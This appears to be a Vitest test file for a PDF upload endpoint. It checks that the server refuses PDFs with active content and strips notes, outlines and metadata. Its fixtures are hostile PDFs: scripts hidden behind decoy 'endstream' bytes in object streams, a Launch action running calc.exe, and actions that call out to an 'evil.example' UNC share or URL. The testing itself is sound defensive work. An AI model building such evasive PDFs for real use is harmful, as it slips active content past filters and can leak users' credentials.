import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { getDocumentProxy } from "unpdf";
import { afterAll, describe, expect, it } from "vitest";
import { artworkMessages } from "#app/forms/artwork.ts";
import { useForwardingServer } from "../support/harness.ts";
import {
  hiddenObjectPdf,
  objectStreamPdf,
  pdfFile,
  storedThenDeflated,
} from "../support/pdf-files.ts";
import { postArtwork } from "../support/http.ts";
import { readPdf } from "../support/pdf.ts";

const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

/** Packs `action` as object 6, behind object 5: a string reading "endstream" kept verbatim. */
const behindEndstream = (pageExtra: string, action: string) =>
  objectStreamPdf({
    pageExtra,
    packed: ["(endstream)", action],
    compress: (content) => storedThenDeflated(content, content.indexOf(action)),
  });

/** What PDF.js itself says the first page runs when it opens. */
async function pageOpenScripts(pdf: Buffer): Promise<unknown> {
  const document = await getDocumentProxy(new Uint8Array(pdf), { verbosity: 0 });
  try {
    return await (await document.getPage(1)).getJSActions();
  } finally {
    await document.loadingTask.destroy();
  }
}

const refusedAsActive = {
  status: 422,
  body: { outcome: "failed", message: artworkMessages.activePdf },
};

describe("PDF upload (issue 16, item 1)", () => {
  const uploadsDir = mkdtempSync(path.join(tmpdir(), "wrapcraft-uploads-"));
  const block = useForwardingServer("sqlite", { UPLOADS_DIR: uploadsDir });
  afterAll(() => rmSync(uploadsDir, { recursive: true, force: true }));
  const upload = (pdf: Buffer) => postArtwork(block.server.origin, pdf, "art.pdf");

  it("refuses page-open JavaScript packed after compressed bytes that spell `endstream`", async () => {
    const pdf = behindEndstream("/AA << /O 6 0 R >>", script);
    const dataStart = pdf.indexOf("stream\n") + "stream\n".length;
    expect(pdf.indexOf("endstream", dataStart)).toBeLessThan(pdf.indexOf("/Type /XRef"));
    expect(await pageOpenScripts(pdf)).toEqual({ PageOpen: ["app.alert(1)"] });
    expect(await upload(pdf)).toEqual(refusedAsActive);
  });

  it("refuses a Launch action and a JavaScript link packed the same way", async () => {
    const launch = behindEndstream("/AA << /O 6 0 R >>", "<< /S /Launch /F (calc.exe) >>");
    const link = behindEndstream(
      "/Annots [6 0 R]",
      `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${script} >>`,
    );
    expect(await upload(launch)).toEqual(refusedAsActive);
    expect(await upload(link)).toEqual(refusedAsActive);
  });

  it("refuses a script in an object stream that does not say /Type /ObjStm", async () => {
    const pdf = objectStreamPdf({
      pageExtra: "/AA << /O 5 0 R >>",
      packed: [script],
      dictionary: "",
    });
    expect(await pageOpenScripts(pdf)).toEqual({ PageOpen: ["app.alert(1)"] });
    expect(await upload(pdf)).toEqual(refusedAsActive);
  });

  it("refuses /XFA hidden in another stream's data, and actions that reach out", async () => {
    const hostile = [
      hiddenObjectPdf({
        catalogExtra: "/AcroForm 5 0 R",
        hidden: "<< /Fields [] /XFA (<xdp/>) >>",
      }),
      pdfFile({
        catalogExtra:
          "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
      }),
      pdfFile({ catalogExtra: "/OpenAction << /S /GoToE /T << /R /C /N (page.html) >> >>" }),
      pdfFile({ pageExtra: "/AA << /O << /S /URI /URI (https://evil.example/opened) >> >>" }),
      pdfFile({ catalogExtra: "/OpenAction << /S /Named /N /Print >>" }),
    ];
    for (const pdf of hostile) expect(await upload(pdf)).toEqual(refusedAsActive);
  });

  it("takes a PDF whose text mentions /JavaScript", async () => {
    const content = "BT /F1 24 Tf 72 72 Td (Press /JavaScript /JS) Tj ET";
    const pdf = pdfFile({
      catalogExtra: "/Lang (en /JavaScript)",
      pageExtra: "/Contents 4 0 R",
      extra: [`<< /Length ${content.length} >>\nstream\n${content}\nendstream`],
    });
    expect((await upload(pdf)).status).toBe(201);
  });

  it("serves a rebuilt copy: the same pages, without notes, outline or metadata", async () => {
    const pdf = pdfFile({
      widthPt: 900,
      heightPt: 630,
      catalogExtra: "/Outlines 5 0 R",
      pageExtra: "/Annots [4 0 R]",
      trailerExtra: "/Info 7 0 R",
      extra: [
        "<< /Type /Annot /Subtype /Text /Rect [0 0 20 20] /Contents (Trim here) >>",
        "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        "<< /Title (Lid) /Parent 5 0 R /Dest [3 0 R /Fit] >>",
        "<< /Title (Summer mix) >>",
      ],
    });
    const reply = await upload(pdf);
    expect(reply.status).toBe(201);
    expect(reply.body).toMatchObject({ pageInches: { width: 12.5, height: 8.75 } });
    const response = await fetch(`${block.server.origin}/artwork/${String(reply.body.id)}`);
    const served = Buffer.from(await response.arrayBuffer());
    expect(served.equals(pdf)).toBe(false);
    expect(reply.body.sizeBytes).toBe(served.length);
    const text = served.toString("latin1");
    for (const gone of ["/Annots", "Trim here", "/Outlines", "Summer mix"])
      expect(text).not.toContain(gone);
    const reading = await readPdf(new Uint8Array(served));
    expect(reading.pageCount).toBe(1);
    expect(reading.pageInches).toEqual({ width: 12.5, height: 8.75 });
  });
});
